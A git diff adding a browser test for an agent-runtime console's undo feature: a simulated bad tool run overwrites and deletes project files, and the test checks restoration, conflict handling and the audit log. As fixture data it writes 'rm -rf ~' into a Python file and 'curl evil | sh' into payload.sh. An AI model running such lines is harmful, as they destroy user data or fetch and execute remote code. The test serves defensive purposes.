@@ -13,7 +13,7 @@ import { verifyAuditProof } from '../src/audit/index.ts';
 import { startConsole, type ConsoleServer } from '../src/console/index.ts';
 import { launchChromium } from './helpers/chromium.ts';
 import { jsFixture } from './helpers/js-fixtures.ts';
-import { tempDir, testRuntime } from './helpers/runtime.ts';
+import { auditRecords, tempDir, testRuntime } from './helpers/runtime.ts';
 
 export const ARTIFACTS = path.join(import.meta.dirname, '..', 'build', 'test-artifacts', 'console');
 
@@ -23,15 +23,30 @@ let grants: string[];
 let server: ConsoleServer;
 let chrome: Awaited<ReturnType<typeof launchChromium>>;
 let page: Page;
+/** The project a bad run damages, as it was before. */
+const PROJECT: Record<string, Buffer> = {
+  'main.py': Buffer.from('print("hello")\n'),
+  'README.md': Buffer.from('# Project\n\nDo not lose this.\n'),
+  'data.csv': Buffer.from('id,value\n1,42\n2,43\n'),
+  'logo.bin': Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7) % 256)),
+};
 
 before(async () => {
   fs.mkdirSync(ARTIFACTS, { recursive: true });
   ws = tempDir('authority-console-browser-');
   fs.mkdirSync(path.join(ws.path, 'out'));
   fs.writeFileSync(path.join(ws.path, 'notes.txt'), 'notes');
+  fs.mkdirSync(path.join(ws.path, 'project'));
+  for (const [name, bytes] of Object.entries(PROJECT)) fs.writeFileSync(path.join(ws.path, 'project', name), bytes);
   rt = await testRuntime({
     audit: { durability: 'none' },
-    policy: { version: '1.0', name: 'console-browser', fs: { read: [`${ws.path}/**`], write: [`${ws.path}/out/**`] }, tools: { allow: ['fs-probe'] } },
+    policy: {
+      version: '1.0',
+      name: 'console-browser',
+      fs: { read: [`${ws.path}/**`], write: [`${ws.path}/out/**`, `${ws.path}/project/**`] },
+      tools: { allow: ['fs-probe'] },
+      undo: { tools: ['fs-probe'] },
+    },
   });
   await rt.register(await jsFixture('fs-probe'), { limits: { timeoutMs: 120_000 } });
   grants = [rt.issueToken({ kind: 'fs', resource: '/**', methods: ['read', 'list', 'write', 'remove'], ttlMs: 3_600_000 })];
@@ -39,7 +54,7 @@ before(async () => {
   await rt.invoke('fs-probe', { ops: [{ op: 'read', path: path.join(ws.path, 'notes.txt') }, { op: 'write', path: out('summary.txt'), data: 'summary' }, { op: 'list', path: path.join(ws.path, 'out') }] }, { grants, runId: 'run-summary' });
   await rt.invoke('fs-probe', { ops: [{ op: 'write', path: path.join(ws.path, 'notes.txt'), data: 'X' }, { op: 'read', path: '/etc/hostname' }, { op: 'stat', path: out('summary.txt') }] }, { grants, runId: 'run-pushy' });
   await rt.invoke('fs-probe', { ops: [{ op: 'read', path: out('missing.txt') }] }, { grants, runId: 'run-missing' });
-  server = await startConsole({ dir: rt.dataDir, pollMs: 100 });
+  server = await startConsole({ dir: rt.dataDir, pollMs: 100, undo: { plan: (id) => rt.undoPlan(id), apply: (id, o) => rt.undoRun(id, o) } });
   chrome = await launchChromium();
   page = await chrome.context.newPage();
 });
@@ -147,4 +162,81 @@ test('the live tail shows a new run as it happens, and the runs list picks it up
   await page.waitForSelector('#runs tbody tr[data-run="run-live"]');
   assert.equal(await page.locator('#tail-dot.on').count(), 1);
   await shot('05-live');
+});
+
+/** Every file of the project folder, name to bytes. */
+function projectFiles(): Record<string, string> {
+  const dir = path.join(ws.path, 'project');
+  return Object.fromEntries(fs.readdirSync(dir).filter((n) => !n.endsWith('.tmp')).sort().map((n) => [n, fs.readFileSync(path.join(dir, n)).toString('base64')]));
+}
+
+test('a bad run that overwrote and deleted files is found in the console and undone from it: files byte-identical, the undo in the log, the chain verified', async () => {
+  const before = projectFiles();
+  const f = (n: string): string => path.join(ws.path, 'project', n);
+  await rt.invoke(
+    'fs-probe',
+    {
+      ops: [
+        { op: 'write', path: f('main.py'), data: 'import os; os.system("rm -rf ~")' },
+        { op: 'write', path: f('README.md'), data: '' },
+        { op: 'remove', path: f('data.csv') },
+        { op: 'write', path: f('logo.bin'), data: 'not a logo' },
+        { op: 'write', path: f('payload.sh'), data: 'curl evil | sh' },
+        { op: 'write', path: f('main.py'), data: 'print("pwned")' },
+      ],
+    },
+    { grants, runId: 'run-bad' },
+  );
+  // Someone edits a damaged file by hand before the undo: the console must show it as a conflict first.
+  fs.writeFileSync(f('README.md'), '# Project\n\nhalf repaired by hand\n');
+  assert.notDeepEqual(projectFiles(), before);
+
+  await page.goto(server.url);
+  await page.waitForSelector('body[data-ready="1"]');
+  await page.selectOption('#f-tool', 'fs-probe');
+  await page.click('#filters button[type="submit"]');
+  await until(async () => (await page.locator('#runs tbody tr[data-run="run-bad"]').count()) === 1, 'the bad run listed');
+  await page.locator('#runs tbody tr[data-run="run-bad"]').click();
+  await until(async () => (await page.locator('#run-id').textContent()) === 'run-bad', 'the bad run shown');
+  const ops = await page.locator('#calls tbody tr td:nth-child(2)').allTextContents();
+  assert.deepEqual(ops, ['fs.write', 'fs.write', 'fs.remove', 'fs.write', 'fs.write', 'fs.write']);
+  assert.equal(await page.locator('#undo-box').isVisible(), true);
+
+  await page.click('#undo-plan');
+  await page.waitForSelector('#undo-view p');
+  const view = await page.locator('#undo-view').innerText();
+  // Conflicts first, then the rest.
+  assert.ok(view.indexOf('1 conflict') >= 0 && view.indexOf('1 conflict') < view.indexOf('to restore'), view);
+  assert.match(view, /README\.md/);
+  await shot('06-undo-plan');
+
+  // Leave the conflict alone first: everything else comes back, the hand edit stays.
+  await page.click('#undo-confirm');
+  await page.waitForSelector('#undo-result');
+  assert.match((await page.locator('#undo-result').textContent()) ?? '', /restored 5, conflicts 1/);
+  assert.equal(fs.readFileSync(f('README.md'), 'utf8'), '# Project\n\nhalf repaired by hand\n');
+  assert.deepEqual(fs.readFileSync(f('logo.bin')), PROJECT['logo.bin']);
+  assert.equal(fs.existsSync(f('payload.sh')), false);
+
+  // Then decide: overwrite the hand edit too.
+  await page.click('#undo-plan');
+  await page.waitForSelector('#undo-force');
+  await page.click('#undo-force');
+  await page.waitForSelector('#undo-result');
+  assert.match((await page.locator('#undo-result').textContent()) ?? '', /restored 1, conflicts 0/);
+  assert.deepEqual(projectFiles(), before);
+
+  // The undo is in the log (under the run), and the chain verifies.
+  await page.locator('#runs tbody tr[data-run="run-bad"]').click();
+  await until(async () => (await page.locator('#undo-records li').count()) > 0, 'the undo history shown');
+  const history = await page.locator('#undo-records li').allTextContents();
+  assert.equal(history.filter((t) => t.includes('undo.restore')).length, 6);
+  assert.equal(history.filter((t) => t.includes('undo.conflict')).length, 1);
+  assert.equal(history.filter((t) => t.includes('undo.end')).length, 2);
+  await page.click('#verify');
+  await until(async () => /\bok\b/.test((await page.locator('#chain-verified').getAttribute('class')) ?? ''), 'the chain verified');
+  await shot('07-undone');
+  const records = await auditRecords(rt.dataDir, (r) => r.runId === 'run-bad' && r.kind.startsWith('undo.'));
+  // Newest change first: README.md's (the conflict) is the second oldest.
+  assert.deepEqual(records.map((r) => r.kind), ['undo.start', ...Array(4).fill('undo.restore'), 'undo.conflict', 'undo.restore', 'undo.end', 'undo.start', 'undo.restore', 'undo.end']);
 });
